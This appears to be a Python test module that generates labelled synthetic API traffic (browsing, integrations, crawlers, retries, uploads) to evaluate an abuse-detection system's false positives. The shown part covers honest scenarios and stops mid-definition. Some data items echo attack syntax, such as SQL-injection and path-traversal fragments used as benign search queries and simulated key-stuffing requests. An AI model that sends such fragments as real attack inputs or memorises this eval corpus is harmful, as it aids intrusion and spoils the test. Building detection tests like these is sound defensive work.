"""The labelled corpus: honest behaviour for every plan, and abusive behaviour per clause.

Times are built backwards from ``ctx.end`` (the run's base instant), gaps from the scenario's seeded
random source, so a scenario produces the same traffic for the same seed and base. ``known`` marks an
honest scenario the current code is known to treat wrongly, with its issue class.
"""

from __future__ import annotations

import base64
import bz2
import json
import random
import uuid
from collections.abc import Callable
from datetime import timedelta
from urllib.parse import quote

from tests.eval import files as F
from tests.eval.model import BROWSER_UAS, PERIOD, Ctx, Label, Line, Metric, Scenario, Traffic, Upload

MD = "md"  # Markdown names are built: tests/unit/test_docs.py takes a written-out one for a file reference

MIN = 60_000
DAY_MS = 24 * 60 * MIN
SEC = 1000


# ------------------------------------------------------------------------------------------ helpers


def gaps(rng: random.Random, start: int, n: int, mean_ms: float, *, cv: float = 1.0) -> list[int]:
    """``n`` instants from ``start``: exponential gaps (cv 1, people) or near-regular ones (small cv)."""
    out, t = [], float(start)
    for _ in range(n):
        out.append(int(t))
        gap = rng.expovariate(1 / mean_ms) if cv >= 1 else max(1.0, rng.gauss(mean_ms, mean_ms * cv))
        t += gap
    return out


def chunks(lines: list[Line], size: int = 2000) -> list[list[Line]]:
    """CloudWatch Logs delivers a subscription in batches: time-ordered, at most ``size`` lines each."""
    lines = sorted(lines, key=lambda ln: ln.at_ms)
    return [lines[i : i + size] for i in range(0, len(lines), size)] or [[]]


def page_view(
    ctx: Ctx, at: int, ip: str, agent: str, path: str, resource: str, prefix: str = ""
) -> list[Line]:
    """A person opening a page: the document, then its API calls within a second."""
    me = ctx.account_id
    lines = [Line(at, ip, prefix + path, resource, me, agent=agent, length=ctx.rng.randrange(2_000, 40_000))]
    for i in range(ctx.rng.randrange(2, 6)):
        sub, res = ctx.rng.choice(
            [("/me", "/me"), ("/notifications", "/notifications"), ("/settings", "/settings")]
        )
        status = 304 if ctx.rng.random() < 0.3 else 200
        lines.append(
            Line(at + 150 + i * ctx.rng.randrange(40, 200), ip, prefix + sub, res, me, status, agent)
        )
    return lines


def browsing(ctx: Ctx, *, minutes: int, pages: int, prefix: str = "", ip: str | None = None) -> list[Line]:
    ip = ip or ctx.ip()
    agent = ctx.rng.choice(BROWSER_UAS)
    start = ctx.end_ms - minutes * MIN
    lines: list[Line] = []
    for at in gaps(ctx.rng, start, pages, minutes * MIN / pages):
        kind = ctx.rng.random()
        if kind < 0.6:
            path, res = f"/items/{ctx.rng.randrange(1, 400)}", "/items/{id}"
        elif kind < 0.8:
            path, res = (
                f"/search?q={ctx.rng.choice(['invoice', 'blue shoes', 'q3 report', 'refund'])}",
                "/search",
            )
        else:
            path, res = f"/projects/{ctx.rng.randrange(1, 9)}/files", "/projects/{id}/files"
        lines += page_view(ctx, at, ip, agent, path, res, prefix)
    if lines:  # a stale bookmark
        lines.append(
            Line(
                lines[-1].at_ms + 5 * SEC,
                ip,
                prefix + "/items/99999",
                "/items/{id}",
                ctx.account_id,
                404,
                agent,
            )
        )
    return [ln for ln in lines if ln.at_ms < ctx.end_ms]


def traffic(lines: list[Line], probe: str, *, per: int = 2000) -> Traffic:
    return Traffic(deliveries=chunks(lines, per), probe_ips=[probe])


# ------------------------------------------------------------------------------------------ honest: logs


def h_browser(ctx: Ctx) -> Traffic:
    ip = ctx.ip()
    return traffic(browsing(ctx, minutes=25, pages=40, ip=ip), ip)


def h_stage_prefix(ctx: Ctx) -> Traffic:
    ip = ctx.ip()
    return traffic(browsing(ctx, minutes=25, pages=40, prefix="/prod", ip=ip), ip)


def h_spa_polling(ctx: Ctx) -> Traffic:
    ip, agent, me = ctx.ip(), BROWSER_UAS[1], ctx.account_id
    start = ctx.end_ms - 60 * MIN
    lines = [
        Line(at, ip, "/notifications", "/notifications", me, 200 if i % 7 else 304, agent, length=180)
        for i, at in enumerate(gaps(ctx.rng, start, 240, 15 * SEC, cv=0.02))
    ]
    lines += [
        Line(at, ip, "/me", "/me", me, 200, agent) for at in gaps(ctx.rng, start + 7000, 60, MIN, cv=0.02)
    ]
    lines += browsing(ctx, minutes=60, pages=15, ip=ip)
    return traffic(lines, ip)


def h_dashboard(ctx: Ctx) -> Traffic:
    """A wall dashboard refreshing the same 50 widgets every 30 s; each refresh arrives as its own batch."""
    ip, agent, me = ctx.ip(), BROWSER_UAS[0], ctx.account_id
    start = ctx.end_ms - 30 * MIN
    deliveries = []
    for poll in range(60):
        at = start + poll * 30 * SEC
        deliveries.append(
            [
                Line(at + w * 35, ip, f"/widgets/{w + 1}", "/widgets/{id}", me, 200, agent, length=900)
                for w in range(50)
            ]
        )
    return Traffic(deliveries=deliveries, probe_ips=[ip])


def h_mobile(ctx: Ctx) -> Traffic:
    """A shopping app: 40 people in an hour on three carriers, six app versions, iOS and Android."""
    me, lines, start = ctx.account_id, [], ctx.end_ms - 60 * MIN
    versions = [f"AcmeShop/4.{v}.{ctx.rng.randrange(5)}" for v in range(6)]
    for user in range(40):
        ip = ctx.ip()
        v = versions[user % 6]
        agent = f"{v} (iPhone; iOS 18.{user % 3})" if user % 2 else f"{v} (Android 14; okhttp/4.12.0)"
        t0 = start + ctx.rng.randrange(55 * MIN)
        for at in gaps(ctx.rng, t0, ctx.rng.randrange(5, 20), 8 * SEC):
            sku = ctx.rng.randrange(1, 2000)
            path, res = ctx.rng.choice(
                [(f"/products/{sku}", "/products/{id}"), ("/cart", "/cart"), ("/me", "/me")]
            )
            lines.append(Line(at, ip, path, res, me, 200, agent, length=ctx.rng.randrange(500, 6000)))
    return traffic(lines, lines[0].ip)


def integration(
    ctx: Ctx, *, rate: float, minutes: int, agent: str, resource: str, ids: str
) -> tuple[list[Line], str]:
    """A server-side integration at ``rate`` req/s, honouring 429/503 with backoff and a retry."""
    ip, me, lines = ctx.ip(), ctx.account_id, []
    start = ctx.end_ms - minutes * MIN
    n = int(rate * minutes * 60)
    next_id = ctx.rng.randrange(10_000, 90_000)
    for at in gaps(ctx.rng, start, n, 1000 / rate, cv=0.15):
        next_id += ctx.rng.randrange(1, 40) if ids == "distinct" else 0
        if ids == "distinct":
            oid = next_id
        elif ids == "pool":  # the same few hundred records, read again and again
            oid = 50_000 + ctx.rng.randrange(300)
        else:
            oid = ctx.rng.randrange(10_000, 99_999)
        path = resource.replace("{id}", str(oid))
        r = ctx.rng.random()
        if r < 0.03 or r > 0.99:
            status = 429 if r < 0.03 else 503
            lines.append(Line(at, ip, path, resource, me, status, agent, length=60))
            lines.append(Line(at + (1000 if status == 429 else 2000), ip, path, resource, me, 200, agent))
        else:
            lines.append(Line(at, ip, path, resource, me, 200, agent, length=ctx.rng.randrange(400, 3000)))
    return [ln for ln in lines if ln.at_ms < ctx.end_ms], ip


def h_integration_full(ctx: Ctx) -> Traffic:
    lines, ip = integration(
        ctx,
        rate=5,
        minutes=15,
        agent="acme-sync/2.3 python-requests/2.32.3",
        resource="/orders/{id}",
        ids="random",
    )
    return traffic(lines, ip)


def h_free_integration(ctx: Ctx) -> Traffic:
    """A free-plan integration at its full 2 req/s for 15 minutes over the same 300 records."""
    lines, ip = integration(
        ctx, rate=2, minutes=15, agent="zapier-like-hooks/1.9", resource="/orders/{id}", ids="pool"
    )
    return traffic(lines, ip)


def h_business_30rps(ctx: Ctx) -> Traffic:
    lines, ip = integration(
        ctx, rate=30, minutes=6, agent="erp-connector/7.1 (+java 21)", resource="/orders/{id}", ids="distinct"
    )
    return traffic(lines, ip)


def h_enterprise_api(ctx: Ctx) -> Traffic:
    """Four application servers of an enterprise customer at 80 req/s in all (16 % of its plan)."""
    lines: list[Line] = []
    ips = [ctx.ip() for _ in range(4)]
    for ip in ips:
        part, _ = integration(
            ctx, rate=20, minutes=2, agent="Go-http-client/2.0", resource="/v2/records/{id}", ids="random"
        )
        lines += [
            Line(ln.at_ms, ip, ln.path, ln.resource, ln.principal, ln.status, ln.agent, length=ln.length)
            for ln in part
        ]
    return traffic(lines, ips[0])


def h_ci_artifacts(ctx: Ctx) -> Traffic:
    me, lines = ctx.account_id, []
    runners = [ctx.ip() for _ in range(3)]
    for run in range(6):
        at0 = ctx.end_ms - 60 * MIN + run * 10 * MIN + ctx.rng.randrange(MIN)
        ip = runners[run % 3]
        for i, at in enumerate(gaps(ctx.rng, at0, 12, 1500)):
            art = 7000 + run * 12 + i
            lines.append(
                Line(
                    at,
                    ip,
                    f"/artifacts/{art}/download",
                    "/artifacts/{id}/download",
                    me,
                    200,
                    "curl/8.5.0",
                    length=ctx.rng.randrange(30, 80) * 1_000_000,
                )
            )
        lines.append(
            Line(
                at0 - 2000,
                ip,
                "/artifacts/latest/download",
                "/artifacts/{id}/download",
                me,
                404,
                "curl/8.5.0",
                length=60,
            )
        )
    return traffic(lines, runners[0])


def h_crm_deleted(ctx: Ctx) -> Traffic:
    """A CRM sync reading 200 customers of its own; six were deleted since the last sync (404)."""
    ip, me, agent = ctx.ip(), ctx.account_id, "HubBridge-CRM/3.4"
    ids = sorted(ctx.rng.sample(range(100_000, 999_999), 200))
    deleted = set(ctx.rng.sample(ids, 6))
    lines = [
        Line(at, ip, f"/customers/{cid}", "/customers/{id}", me, 404 if cid in deleted else 200, agent)
        for at, cid in zip(gaps(ctx.rng, ctx.end_ms - 20 * MIN, 200, 4 * SEC, cv=0.3), ids, strict=True)
    ]
    return traffic(lines, ip)


def h_cgnat(ctx: Ctx) -> Traffic:
    """An honest phone user behind a carrier NAT whose public address a key stuffer shares."""
    nat = ctx.ip()
    lines = browsing(ctx, minutes=20, pages=25, ip=nat)
    start = ctx.end_ms - 15 * MIN
    lines += [
        Line(at, nat, "/me", "/me", ctx.key_hash(f"k{i}"), 403, "python-requests/2.31.0", length=60)
        for i, at in enumerate(gaps(ctx.rng, start, 40, 5 * SEC))
    ]
    return traffic(lines, nat)


def h_corporate_proxy(ctx: Ctx) -> Traffic:
    """150 employees behind two corporate proxies that add their X-Forwarded-For hop."""
    proxies, me, lines = [ctx.ip(), ctx.ip()], ctx.account_id, []
    start = ctx.end_ms - 30 * MIN
    for emp in range(150):
        proxy = proxies[emp % 2]
        inner = f"10.{20 + emp // 100}.{emp % 100}.{ctx.rng.randrange(2, 250)}"
        agent = BROWSER_UAS[emp % 3]
        for at in gaps(ctx.rng, start + ctx.rng.randrange(25 * MIN), ctx.rng.randrange(3, 10), 20 * SEC):
            lines.append(
                Line(
                    at,
                    proxy,
                    f"/items/{ctx.rng.randrange(1, 3000)}",
                    "/items/{id}",
                    me,
                    200,
                    agent,
                    forwarded=f"{inner}, {proxy}",
                )
            )
    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], proxies[0])


def h_installers(ctx: Ctx) -> Traffic:
    """Customers download this account's own installers, a migration script and a composer.json."""
    me, lines = ctx.account_id, []
    files = ["/downloads/acme-setup-2.4.1.exe"] * 5 + [
        "/downloads/migrations/2026_11_add_index.sql",
        "/downloads/composer.json",
    ]
    for i, path in enumerate(files):
        ip = ctx.ip()
        at = ctx.end_ms - 40 * MIN + i * ctx.rng.randrange(2, 5) * MIN
        lines += page_view(ctx, at, ip, BROWSER_UAS[i % 3], "/downloads", "/downloads")
        lines.append(
            Line(
                at + 4 * SEC,
                ip,
                path,
                "/downloads/{proxy+}",
                me,
                200,
                BROWSER_UAS[i % 3],
                length=80_000_000 if path.endswith(".exe") else 4_000,
            )
        )
    return traffic(lines, lines[0].ip)


def h_late_burst(ctx: Ctx) -> Traffic:
    """A nightly import: 600 rows posted in one minute (a burst; 2 req/s over its 5-minute window,
    inside the standard plan's 5), whose logs are delivered 10 hours late in one batch."""
    me, ip, agent = ctx.account_id, ctx.ip(), "acme-import/1.0"
    start = ctx.end_ms - 10 * 60 * MIN
    batch = ctx.rng.randrange(1000, 9999)
    lines = [
        Line(at, ip, f"/imports/{batch}/rows", "/imports/{id}/rows", me, 201, agent, method="POST")
        for at in gaps(ctx.rng, start, 600, 100, cv=0.3)
    ]
    return Traffic(deliveries=[lines], probe_ips=[ip])


def h_login_relay(ctx: Ctx) -> Traffic:
    """A shop's backend relaying its customers' logins, one a second for 20 minutes; 5 % are mistyped
    passwords (401), each success followed by the account page."""
    ip, me, agent, lines = ctx.ip(), ctx.account_id, "shopfront-api/4.2 node-fetch/3.3", []
    for at in gaps(ctx.rng, ctx.end_ms - 20 * MIN, 1200, SEC, cv=0.8):
        ok = ctx.rng.random() >= 0.05
        lines.append(
            Line(
                at, ip, "/auth/login", "/auth/login", me, 200 if ok else 401, agent, method="POST", length=300
            )
        )
        if ok:
            lines.append(Line(at + 300, ip, "/me", "/me", me, 200, agent))
    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], ip)


def h_stuck_403(ctx: Ctx) -> Traffic:
    """A nightly export retrying, every second for 15 minutes, a report endpoint its plan lacks (403)."""
    ip, me = ctx.ip(), ctx.account_id
    lines = [
        Line(at, ip, "/reports/2291/export", "/reports/{id}/export", me, 403, "acme-etl/1.4", length=90)
        for at in gaps(ctx.rng, ctx.end_ms - 15 * MIN, 900, SEC, cv=0.1)
    ]
    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], ip)


def h_expired_token(ctx: Ctx) -> Traffic:
    """A sync whose stored token expired, still walking its orders every 2 s: each one refused (401)."""
    ip, me = ctx.ip(), ctx.account_id
    lines = [
        Line(at, ip, f"/orders/{oid}", "/orders/{id}", me, 401, "acme-etl/1.4", length=90)
        for at, oid in zip(
            gaps(ctx.rng, ctx.end_ms - 15 * MIN, 450, 2 * SEC, cv=0.1),
            ctx.rng.sample(range(10_000, 99_999), 450),
            strict=True,
        )
    ]
    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], ip)


def h_removed_version(ctx: Ctx) -> Traffic:
    """An old client still reading its orders through /v1 after the version was removed: a catch-all
    route answers 404 for each of them, one a second for 15 minutes."""
    ip, me = ctx.ip(), ctx.account_id
    lines = [
        Line(at, ip, f"/v1/orders/{oid}", "/{proxy+}", me, 404, "legacy-sync/0.9", length=42)
        for at, oid in zip(
            gaps(ctx.rng, ctx.end_ms - 15 * MIN, 900, SEC, cv=0.3),
            ctx.rng.sample(range(10_000, 99_999), 900),
            strict=True,
        )
    ]
    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], ip)


def h_docs_search(ctx: Ctx) -> Traffic:
    """A developer-docs site's search box (its backend calls the search API): 40 searches a minute for an
    hour, some of them for SQL, shell and path syntax its readers look up."""
    ip, me, agent = ctx.ip(), ctx.account_id, "docs-portal/2.0 (+python-httpx/0.27)"
    plain = ["install", "rate limits", "webhooks retry", "pagination cursor", "api keys rotate", "sdk python"]
    technical = ["union select syntax", "sleep(5) vs pg_sleep", "../ in import paths", "<script> defer",
                 "waitfor delay example", "what does or 1=1 mean"]  # fmt: skip
    lines = [
        Line(at, ip, "/search?q=" + quote(q), "/search", me, 200, agent, length=4_000)
        for at in gaps(ctx.rng, ctx.end_ms - 60 * MIN, 2400, 1.5 * SEC)
        for q in [ctx.rng.choice(technical if ctx.rng.random() < 0.02 else plain)]
    ]
    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], ip)


def hourly(lines: list[Line], start: int, hours: int) -> Traffic:
    """Lines delivered as they happen: one batch an hour."""
    deliveries = [
        [ln for ln in lines if h * 60 * MIN <= ln.at_ms - start < (h + 1) * 60 * MIN] for h in range(hours)
    ]
    return Traffic(deliveries=[d for d in deliveries if d], probe_ips=[lines[0].ip])


def h_ssr_forwarded_agents(ctx: Ctx) -> Traffic:
    """A shop's server-side rendering: its one server calls the API for each page it renders and passes
    the visitor's user agent on. For an hour, pages for browsers and, now and then, for the search
    engines' crawlers (Googlebot, Bingbot) indexing the shop."""
    ip, me = ctx.ip(), ctx.account_id
    crawlers = ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"]  # fmt: skip
    lines = []
    for at in gaps(ctx.rng, ctx.end_ms - 60 * MIN, 400, 9 * SEC):
        agent = ctx.rng.choice(crawlers) if ctx.rng.random() < 0.06 else ctx.rng.choice(BROWSER_UAS)
        item = ctx.rng.randrange(1, 3000)
        lines.append(Line(at, ip, f"/products/{item}", "/products/{id}", me, 200, agent, length=3_000))
        lines.append(Line(at + 40, ip, f"/products/{item}/reviews", "/products/{id}/reviews", me, 200, agent))
    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], ip)


def h_stale_updater(ctx: Ctx) -> Traffic:
    """A desktop app's installed copies checking, for 8 hours, an installer link the customer moved: the
    catch-all route answers 404 each time (a check every ~3 minutes from the app's fleet)."""
    ip, me = ctx.ip(), ctx.account_id
    start = ctx.end_ms - 8 * 60 * MIN
    lines = [
        Line(
            at,
            ip,
            "/downloads/acme-agent-setup.exe",
            "/{proxy+}",
            me,
            404,
            "AcmeAgent-Updater/3.2",
            length=42,
        )
        for at in gaps(ctx.rng, start, 160, 3 * MIN, cv=0.5)
        if at < ctx.end_ms
    ]
    return hourly(lines, start, 8)


def h_admin_scope_poll(ctx: Ctx) -> Traffic:
    """A staff dashboard polling the provider's own /admin/usage route every 5 minutes for 8 hours with a
    key that lacks the admin scope (403 each time)."""
    ip, me = ctx.ip(), ctx.account_id
    start = ctx.end_ms - 8 * 60 * MIN
    lines = [
        Line(at, ip, "/admin/usage", "/admin/usage", me, 403, BROWSER_UAS[1], length=90)
        for at in gaps(ctx.rng, start, 96, 5 * MIN, cv=0.1)
        if at < ctx.end_ms
    ]
    return hourly(lines, start, 8)


def h_admin_widgets_without_scope(ctx: Ctx) -> Traffic:
    """A staff dashboard with three admin widgets (usage, users, audit log) on the provider's own /admin
    routes, refreshed every 20 minutes for 8 hours with a key that lacks the admin scope (403 each time),
    while the same page's other widgets read the account's orders."""
    ip, me, lines = ctx.ip(), ctx.account_id, []
    start = ctx.end_ms - 8 * 60 * MIN
    widgets = ["/admin/usage", "/admin/users", "/admin/audit-log"]
    for at in gaps(ctx.rng, start, 24, 20 * MIN, cv=0.05):
        for k, route in enumerate(widgets):
            lines.append(Line(at + k * 120, ip, route, route, me, 403, BROWSER_UAS[0], length=90))
        oid = ctx.rng.randrange(1000, 9000)
        lines.append(Line(at + 500, ip, f"/orders?since={oid}", "/orders", me, 200, BROWSER_UAS[0]))
    return hourly([ln for ln in lines if ln.at_ms < ctx.end_ms], start, 8)


def h_blob_existence_checks(ctx: Ctx) -> Traffic:
    """Content-addressed stores asking which blobs they already hold, as their protocols do: a registry
    client pushing an image (``HEAD /v2/acme/app/blobs/sha256:<digest>``, 404 for the layers the registry
    lacks, then the upload), and a site's image cache asking for ``<content hash>.webp`` and
    ``<uuid>.jpg`` renditions, most not made yet (404) and then rendered."""
    me, lines = ctx.account_id, []
    registry, cache = ctx.ip(), ctx.ip()
    docker = "docker/27.3.1 go/go1.22.7 git-commit/41ca978 kernel/6.8.0 os/linux arch/amd64"
    start = ctx.end_ms - 30 * MIN
    for i, at in enumerate(gaps(ctx.rng, start, 240, 250, cv=0.3)):
        digest = f"sha256:{ctx.rng.getrandbits(256):064x}"
        path, held = f"/v2/acme/app/blobs/{digest}", i % 3 == 0
        lines.append(
            Line(
                at,
                registry,
                path,
                "/v2/{repo}/blobs/{digest}",
                me,
                200 if held else 404,
                docker,
                method="HEAD",
            )
        )
        if not held:
            lines.append(Line(at + 40, registry, f"/v2/acme/app/blobs/uploads/?digest={digest}",
                              "/v2/{repo}/blobs/uploads", me, 202, docker, method="POST"))  # fmt: skip
    for i, at in enumerate(gaps(ctx.rng, start + 2 * MIN, 300, 3 * SEC, cv=0.5)):
        name = (
            f"{ctx.rng.getrandbits(128):032x}.webp"
            if i % 2
            else f"{uuid.UUID(int=ctx.rng.getrandbits(128))}.jpg"
        )
        lines.append(Line(at, cache, f"/v1/renditions/{name}", "/v1/renditions/{name}", me, 200 if i % 4 == 0 else 404,
                          "okhttp/4.12.0"))  # fmt: skip
    return traffic(sorted(lines, key=lambda ln: ln.at_ms), registry)


def h_uptime_monitors(ctx: Ctx) -> Traffic:
    """A status-page service checking the customer's /health and /v1/status every minute from 12
    monitoring regions for two hours, each region its own network, one monitor agent."""
    me, lines, start = ctx.account_id, [], ctx.end_ms - 120 * MIN
    agent = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
    for region in range(12):
        ip = ctx.ip(net=60 + region * 7)
        for at in gaps(ctx.rng, start + region * 4 * SEC, 120, MIN, cv=0.01):
            lines.append(Line(at, ip, "/health", "/health", me, 200, agent, length=40))
            lines.append(Line(at + 150, ip, "/v1/status", "/v1/status", me, 200, agent, length=300))
    return hourly([ln for ln in lines if ln.at_ms < ctx.end_ms], start, 2)


def h_outage_retries(ctx: Ctx) -> Traffic:
    """A standard-plan integration at 3 req/s through an eight-minute outage of the provider's own: every
    request is answered 503 and the client's library retries it three times within a second."""
    ip, me, lines = ctx.ip(), ctx.account_id, []
    start = ctx.end_ms - 20 * MIN
    outage = (start + 6 * MIN, start + 14 * MIN)
    agent = "billing-sync/3.2 python-requests/2.32.3"
    for at in gaps(ctx.rng, start, 3 * 20 * 60, 1000 / 3, cv=0.2):
        path = f"/invoices/{ctx.rng.randrange(10_000, 99_999)}"
        if outage[0] <= at < outage[1]:
            for k in range(4):
                lines.append(Line(at + k * 250, ip, path, "/invoices/{id}", me, 503, agent, length=60))
        else:
            lines.append(
                Line(at, ip, path, "/invoices/{id}", me, 200, agent, length=ctx.rng.randrange(400, 3000))
            )
    return traffic(sorted((ln for ln in lines if ln.at_ms < ctx.end_ms), key=lambda ln: ln.at_ms), ip)


def h_developer_exploring(ctx: Ctx) -> Traffic:
    """A developer writing an integration in Postman for 40 minutes: the right calls, and wrong guesses
    at routes (404), methods (405) and parameters (400), and a mistyped key now and then (401)."""
    ip, me, lines = ctx.ip(), ctx.account_id, []
    agent = "PostmanRuntime/7.43.0"
    guesses = [
        "/v1/user", "/v1/users/me/", "/v1/Orders", "/v1/order", "/api/v1/orders", "/v1/orders/list",
        "/v1/customers/search", "/v1/invoice", "/v2/orders", "/v1/orders.json", "/v1/me/orders",
        "/v1/products/all", "/v1/auth/token", "/v1/webhooks/test", "/v1/orders/latest", "/orders",
    ]  # fmt: skip
    at = ctx.end_ms - 40 * MIN
    for _ in range(220):
        at += ctx.rng.randrange(4, 18) * SEC
        r = ctx.rng.random()
        if r < 0.2:
            g = ctx.rng.choice(guesses)
            lines.append(Line(at, ip, g, "-", me, 404, agent, length=80))
        elif r < 0.26:
            lines.append(Line(at, ip, "/v1/orders", "/v1/orders", me, 405, agent, method="PATCH", length=80))
        elif r < 0.34:
            q = ctx.rng.choice(["limit=-1", "since=yesterday", "page=0", "sort=date%20desc"])
            lines.append(Line(at, ip, f"/v1/orders?{q}", "/v1/orders", me, 400, agent, length=120))
        elif r < 0.37:
            lines.append(Line(at, ip, "/v1/orders", "/v1/orders", me, 401, agent, length=60))
        else:
            oid = ctx.rng.randrange(1000, 1200)
            path, res = ctx.rng.choice(
                [("/v1/orders", "/v1/orders"), (f"/v1/orders/{oid}", "/v1/orders/{id}")]
            )
            lines.append(Line(at, ip, path, res, me, 200, agent, length=ctx.rng.randrange(300, 4000)))
    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], ip)


GOOGLEBOT_RENDERER = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; "
    "+http://www.google.com/bot.html) Chrome/130.0.6723.69 Safari/537.36"
)


def h_spa_rendered_by_googlebot(ctx: Ctx) -> Traffic:
    """A small recipe site whose single-page front-end calls the API with its publishable key. In a quiet
    hour a few people browse it, and Googlebot renders 80 of its pages from Google's published crawler
    network, running the page's script: each render makes the page's two API calls with the site's key."""
    me, lines, start = ctx.account_id, [], ctx.end_ms - 60 * MIN
    for visitor in range(4):
        ip = ctx.ip()
        for at in gaps(ctx.rng, start + ctx.rng.randrange(40 * MIN), 6, 20 * SEC):
            rid = ctx.rng.randrange(1, 900)
            lines.append(Line(at, ip, f"/recipes/{rid}", "/recipes/{id}", me, 200, BROWSER_UAS[visitor % 2]))
    for page in range(80):
        ip = f"66.249.{66 + page % 4}.{1 + (page * 7) % 30}"  # Googlebot's published /27 blocks
        at = start + page * 40 * SEC + ctx.rng.randrange(5000)
        rid = 1 + page * 11
        lines.append(Line(at, ip, f"/recipes/{rid}", "/recipes/{id}", me, 200, GOOGLEBOT_RENDERER))
        lines.append(
            Line(
                at + 180, ip, f"/recipes/{rid}/related", "/recipes/{id}/related", me, 200, GOOGLEBOT_RENDERER
            )
        )
    return hourly(sorted((ln for ln in lines if ln.at_ms < ctx.end_ms), key=lambda ln: ln.at_ms), start, 1)


OTHER_RENDERERS = (  # each crawler with an address of the network its operator publishes for it
    (
        "17.241.75.%d",  # Apple's 17.0.0.0/8
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    ),
    (
        "5.255.231.%d",  # Yandex's 5.255.192.0/18
        "Mozilla/5.0 (compatible; YandexRenderResourcesBot/1.0; +http://yandex.com/bots) "
        "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.268 YaBrowser/20.6.0.905 Safari/537.36 "
        "YandexBot/3.0",
    ),
    (
        "40.77.189.%d",  # a block of bingbot.json beyond the three /24s the policy listed first
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
        "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    ),
)


def h_spa_rendered_by_other_crawlers(ctx: Ctx) -> Traffic:
    """The same kind of site as ``spa-rendered-by-googlebot``, indexed in turn by Applebot, YandexBot and
    Bingbot, one crawler an hour, each from its operator's own network: 40 renders an hour, each making
    the page's two API calls with the site's key, while two or three people browse it."""
    me, lines, start = ctx.account_id, [], ctx.end_ms - 180 * MIN
    for hour, (net, agent) in enumerate(OTHER_RENDERERS):
        h0 = start + hour * 60 * MIN
        for visitor in range(3):
            ip = ctx.ip()
            for at in gaps(ctx.rng, h0 + ctx.rng.randrange(40 * MIN), 5, 20 * SEC):
                rid = ctx.rng.randrange(1, 900)
                lines.append(
                    Line(at, ip, f"/recipes/{rid}", "/recipes/{id}", me, 200, BROWSER_UAS[visitor % 2])
                )
        for page in range(40):
            ip = net % (1 + page % 20)
            at = h0 + page * 80 * SEC + ctx.rng.randrange(5000)
            rid = 1 + page * 13 + hour
            lines.append(Line(at, ip, f"/recipes/{rid}", "/recipes/{id}", me, 200, agent))
            lines.append(
                Line(at + 210, ip, f"/recipes/{rid}/related", "/recipes/{id}/related", me, 200, agent)
            )
    return hourly(sorted((ln for ln in lines if ln.at_ms < ctx.end_ms), key=lambda ln: ln.at_ms), start, 3)


def h_odata_connector(ctx: Ctx) -> Traffic:
    """A BI tool refreshing a report from the customer's OData route every hour for three hours: filtered
    pages (``$filter=Status eq 'Open' and Amount gt 100``, ``$top``/``$skip``), and in the second hour an
    analyst's misspelt property, which the route refuses (400) until it is fixed."""
    ip, me, lines = ctx.ip(), ctx.account_id, []
    agent = "Microsoft.Data.Mashup (https://go.microsoft.com/fwlink/?LinkID=304225)"
    start = ctx.end_ms - 180 * MIN
    filters = [
        "Status eq 'Open' and Amount gt 100",
        "Region eq 'EMEA' or Region eq 'APAC'",
        "Customer eq 'O''Neill Ltd' and Year eq 2026",
    ]
    for hour in range(3):
        at = start + hour * 60 * MIN + ctx.rng.randrange(5 * MIN)
        for f in filters:
            for page in range(8):
                q = quote(f"$filter={f}&$select=Id,Status,Amount&$top=500&$skip={page * 500}", safe="$&=")
                lines.append(
                    Line(at, ip, f"/odata/Orders?{q}", "/odata/Orders", me, 200, agent, length=40_000)
                )
                at += ctx.rng.randrange(400, 1500)
        if hour == 1:
            for _ in range(3):  # the misspelt property, tried three times
                q = quote("$filter=Stauts eq 'Open' and Amount gt 100&$top=500", safe="$&=")
                lines.append(Line(at, ip, f"/odata/Orders?{q}", "/odata/Orders", me, 400, agent, length=300))
                at += 20 * SEC
    return hourly(sorted(lines, key=lambda ln: ln.at_ms), start, 3)


# ------------------------------------------------------------------------------------------ honest: uploads


def uploads(*items: tuple[str, bytes]) -> Traffic:
    return Traffic(uploads=[Upload(p, b) for p, b in items])


def h_static_site(ctx: Ctx) -> Traffic:
    """A shop deploying its web site: a page with an analytics snippet, a menu button and a
    ``javascript:void(0)`` cart link, its bundle (which fetches the catalogue) and its stylesheet."""
    page = (
        b'<!doctype html><html><head><meta charset="utf-8"><title>Acme Shop</title>'
        b'<script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC123"></script>'
        b"<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}"
        b"gtag('js',new Date());gtag('config','G-ABC123');</script>"
        b'<link rel="stylesheet" href="/assets/app.css"></head><body><div id="root"></div>'
        b"<button onclick=\"document.getElementById('menu').classList.toggle('open')\">Menu</button>"
        b'<a href="javascript:void(0)" id="cart">Cart</a><script src="/assets/app.js"></script></body></html>'
    )
    bundle = (
        b"!function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};"
        b"return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}n.m=e,n.c=t}([function(e,t){"
        b"document.querySelector('#root').innerHTML='<h1>Welcome</h1>';"
        b"fetch('/api/items').then(r=>r.json()).then(i=>localStorage.setItem('items',JSON.stringify(i)))}]);\n"
    ) * 200
    return uploads(
        ("site/index.html", page),
        ("site/assets/app.js", bundle),
        ("site/assets/app.css", b"body{margin:0}\n" * 100),
    )


def h_cookie_consent(ctx: Ctx) -> Traffic:
    """A site's cookie-consent banner: its inline script reads ``document.cookie`` to see whether the
    visitor has chosen, writes the choice back, and reports it to the site's own ``/api/consent``
